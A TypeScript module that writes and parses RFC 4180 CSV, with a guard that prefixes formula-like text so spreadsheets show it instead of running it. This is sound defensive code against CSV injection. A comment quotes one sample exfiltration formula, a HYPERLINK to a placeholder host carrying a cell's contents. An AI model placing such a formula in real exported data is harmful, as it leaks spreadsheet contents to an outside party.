// CSV as RFC 4180 writes it (CRLF line ends; a field with a comma, quote or line break is quoted,
// quotes doubled) and a parser for the same, so an exported table can be read back. Every CSV the
// app writes goes through csvField, which also defuses text a spreadsheet would run as a formula.

export type CsvCell = string | number | boolean | null;

/** One CSV text from rows of cells; the first row is usually the header. */
export function toCsv(rows: readonly (readonly CsvCell[])[]): string {
  return rows.map((row) => row.map(csvField).join(',')).join('\r\n') + '\r\n';
}

/**
 * Text a spreadsheet reads as a formula (OWASP's list: = + - @, tab, CR) gets a leading `'`, so a
 * model answer or a model id like `=HYPERLINK("http://x/?"&A1)` shows as text instead of running.
 * Numbers are written as numbers, negative ones included: only text can carry a formula.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** One field, quoted when it needs to be and never a formula. */
export function csvField(cell: CsvCell): string {
  // A figure that could not be measured (NaN) is an empty cell, as spreadsheets expect.
  if (cell === null || (typeof cell === 'number' && !Number.isFinite(cell))) return '';
  const text = typeof cell === 'string' && FORMULA_START.test(cell) ? `'${cell}` : String(cell);
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

export class CsvSyntaxError extends Error {
  override name = 'CsvSyntaxError';
}

/** Rows of fields. Accepts CRLF or LF line ends and a missing final line end. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  const endRow = () => {
    row.push(field);
    rows.push(row);
    row = [];
    field = '';
  };
  while (i < text.length) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (char === '"') {
        quoted = false;
        i++;
        const next = text[i];
        if (next !== undefined && next !== ',' && next !== '\r' && next !== '\n') {
          throw new CsvSyntaxError(`line ${rows.length + 1}: text after a closing quote`);
        }
      } else {
        field += char;
        i++;
      }
    } else if (char === '"' && field === '') {
      quoted = true;
      i++;
    } else if (char === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (char === '\r' || char === '\n') {
      endRow();
      i += char === '\r' && text[i + 1] === '\n' ? 2 : 1;
    } else {
      field += char;
      i++;
    }
  }
  if (quoted) throw new CsvSyntaxError(`line ${rows.length + 1}: a quoted field is never closed`);
  if (field !== '' || row.length > 0) endRow();
  return rows;
}

/** Rows as objects keyed by the header row's names. */
export function csvRecords(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  if (!header) return [];
  return rows.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i] ?? ''])));
}
